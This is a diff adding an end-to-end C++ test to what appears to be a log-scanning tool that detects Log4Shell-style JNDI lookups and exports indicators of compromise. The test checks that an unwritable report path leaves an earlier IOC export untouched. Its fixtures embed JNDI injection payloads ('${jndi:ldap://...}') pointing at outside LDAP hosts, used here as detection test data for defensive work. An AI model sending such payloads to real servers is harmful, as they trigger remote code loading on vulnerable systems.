@@ -357,6 +357,20 @@ TEST_F(HuntE2E, ManyAttemptsStreamInOrderWithFlatMemory) {
 #endif
 }
 
+// A report that cannot be written is an error before any work, and leaves
+// an earlier IOC export alone rather than overwrite it with nothing.
+TEST_F(HuntE2E, UnwritableReportKeepsTheEarlierIocExport) {
+  std::string log = write("access.log", combined_log(5, {{2, "${jndi:ldap://198.51.100.23:1389/a}"}}));
+  std::string iocs = write("iocs.csv", "earlier export\n");
+  CommandResult r = hunt("-o /nonexistent-dir/report.json --iocs csv " + q(iocs) + " " + q(log));
+  EXPECT_EQ(r.exit_code, 2);
+  std::ifstream in(iocs);
+  EXPECT_EQ(std::string((std::istreambuf_iterator<char>(in)), {}), "earlier export\n");
+  EXPECT_EQ(hunt("--iocs csv " + q(iocs) + " -o " + q(path("report.json")) + " " + q(log)).exit_code, 1);
+  std::ifstream again(iocs);
+  EXPECT_NE(std::string((std::istreambuf_iterator<char>(again)), {}).find("198.51.100.23"), std::string::npos);
+}
+
 TEST_F(HuntE2E, HugeLinesAndNulBytes) {
   std::string huge(24u << 20, 'A');  // longer than the 16 MiB line cap: read in pieces
   huge += " ${jndi:ldap://after-huge.example/a}";
